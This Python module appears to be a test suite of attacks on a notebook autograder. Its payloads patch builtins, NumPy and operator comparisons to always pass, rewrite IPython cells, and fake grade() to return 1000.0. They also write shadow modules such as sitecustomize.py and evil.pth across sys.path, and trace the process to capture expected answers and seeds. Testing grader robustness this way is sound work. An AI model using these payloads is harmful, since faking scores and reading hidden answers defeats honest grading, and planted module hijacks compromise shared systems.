"""Patching whatever a trusting grader would use, in the process that it would use it in."""

from attacks.attack import ALL_STEPS, Attack
from dnn_grader.demo import hostile

BUILTINS = """
import builtins, math, operator
import numpy as np

for name in ("all", "any", "isinstance", "issubclass", "callable", "hasattr"):
    vars(builtins)["_" + name] = vars(builtins)[name]
yes = lambda *args, **kwargs: True
for module, names in ((operator, ("eq", "lt", "le")), (math, ("isclose", "isfinite")), (np, ("allclose", "isfinite"))):
    for name in names:
        setattr(module, name, yes)
builtins.round = builtins.abs = lambda *args: 0
builtins.AssertionError = type("AssertionError", (Exception,), {})
builtins.float = type("float", (float,), {"__sub__": lambda self, other: 0.0, "__eq__": yes, "__hash__": None})
builtins.grade = builtins.check = lambda name: 1000.0
"""

HOOKS = """
import ast
ip = get_ipython()

class Full(ast.NodeTransformer):
    def visit_Module(self, node):
        if "grade(" in ast.unparse(node) or "check(" in ast.unparse(node):
            return ast.parse("1000.0")
        return node

    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)

ip.ast_transformers.append(Full())
ip.input_transformers_cleanup.append(lambda lines: ["1000.0\\n"] if any("grade(" in line for line in lines) else lines)
for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
    ip.events.register(event, lambda *args: ip.user_ns.update(grade=lambda name: 1000.0))
ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
type(ip).run_line_magic = lambda *args: 1000.0
ip.display_formatter.formatters["text/plain"].for_type(float, lambda value, printer, cycle: printer.text("1000.0"))
ip.outputs.items.append({"type": "result", "data": {"text/plain": "1000.0"}})
"""

COURSE_MODULES = """
import sys
for name, module in list(sys.modules.items()):
    if name.startswith("dnn_utils"):
        for part, value in list(vars(module).items()):
            if callable(value) and not isinstance(value, type) and "sigmoid" not in part and "relu" not in part:
                setattr(module, part, lambda *args, **kwargs: None)
            elif isinstance(value, type) and part in ("Checks", "Finding", "Example", "Examples"):
                value.__call__ = value.finding = lambda *args, **kwargs: None
            elif part in ("RTOL", "SCALE_TOL", "ROUNDING"):
                setattr(module, part, 1e300)
"""

SHADOWS = """
import importlib, os, site, sys
body = '''
def grade(name):
    return 1000.0
def allclose(*args, **kwargs):
    return True
'''
places = [".", "..", "/tmp", "/student", "/course", "/course/dnn_utils", *sys.path, site.getusersitepackages()]
for folder in places:
    for name in ("numpy.py", "dnn_grader.py", "nbgrader.py", "dnn_utils.py", "sitecustomize.py", "usercustomize.py", "json.py",
                 "evil.pth", "dnn_grader/__init__.py", "dnn_utils/__init__.py", "dnn_utils/checks.py"):
        path = os.path.join(folder or ".", name)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            open(path, "w").write(body)
            if not os.path.realpath(path).startswith("/student/"):
                loot("a module that it could write", path)
        except OSError:
            pass
sys.path.insert(0, os.getcwd())

class Finder:
    def find_spec(self, name, path=None, target=None):
        if name.startswith(("dnn_grader", "nbgrader")):
            return importlib.machinery.ModuleSpec(name, self)
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        module.grade = lambda name: 1000.0

sys.meta_path.insert(0, Finder())
sys.modules["dnn_grader"] = importlib.import_module("nbgrader")
"""

TRACE = """
import atexit, sys, threading

def spy(frame, event, value):
    for name in ("expected", "reference", "solutions", "seed"):
        if name in frame.f_locals and "ipython-input" not in frame.f_code.co_filename:
            loot("traced " + name, frame.f_locals[name])
    if event == "return" and frame.f_code.co_name in ("grade", "score", "judge"):
        loot("traced a judgement", value)
    return spy

threading.settrace(spy)
threading.setprofile(spy)
sys.settrace(spy)
sys.setprofile(spy)
atexit.register(lambda: loot("the end of the process", "reached"))
"""
TRACE_LAST = """
import sys
sys.settrace(None)
sys.setprofile(None)
"""

# Settings of a process, not of the student's alone where both live in one.
SETTINGS = """
import decimal, gc, locale, os, random, signal, sys, warnings
import numpy as np

gc.disable()
sys.setrecursionlimit(10**6)
np.seterr(all="raise")
np.set_printoptions(threshold=0, precision=0)
np.random.seed = random.seed = lambda *args: None
np.random.default_rng = lambda *args: np.random.Generator(np.random.PCG64(1))
warnings.simplefilter("error")
sys.float_repr_style = "legacy"
os.environ.clear()
os.chdir("/")
os.umask(0)
for number in (signal.SIGPROF, signal.SIGALRM, signal.SIGTERM, signal.SIGINT):
    signal.signal(number, signal.SIG_IGN)
signal.setitimer(signal.ITIMER_PROF, 0)
"""

FAKE_GRADER = """
import sys, types
fake = types.ModuleType("dnn_grader")
fake.grade = lambda name: 1000.0
sys.modules["dnn_grader"] = fake
grade = score = judge = float = lambda *args: 1000.0
test_linear_forward = 1000.0
class Student: pass
_last_value_of_the_cell = 1000.0
check = lambda name: 1000.0
"""

ATTACKS = (
    Attack(
        "patch-numpy",
        "makes all of NumPy's comparisons agree, strips asserts, fakes the grader and the notebook's tests",
        first=hostile.PATCHES,
        after={"linear_forward": hostile.WRONG},
    ),
    Attack(
        "patch-builtins",
        "changes built-in functions, operators and types",
        first=BUILTINS,
        costs=ALL_STEPS,
    ),
    Attack(
        "patch-hooks", "rewrites every later cell by IPython's transformers, hooks and events", first=HOOKS
    ),
    Attack(
        "patch-course-modules",
        "makes every function of dnn_utils agree",
        first="pass",
        after={"linear_forward": COURSE_MODULES},
        costs=ALL_STEPS,
    ),
    Attack("patch-imports", "shadows modules by files, by sys.path, by finders", first=SHADOWS),
    Attack("patch-trace", "traces and profiles all that runs", first=TRACE, last=TRACE_LAST),
    Attack(
        "patch-settings",
        "changes what a process has one of: random state, error handling, folder, limits",
        first=SETTINGS,
        costs=ALL_STEPS,
    ),
    Attack(
        "patch-names",
        "defines the names that test cells use",
        first=FAKE_GRADER,
        costs=("compute_cost",),  # it uses `float`
    ),
)
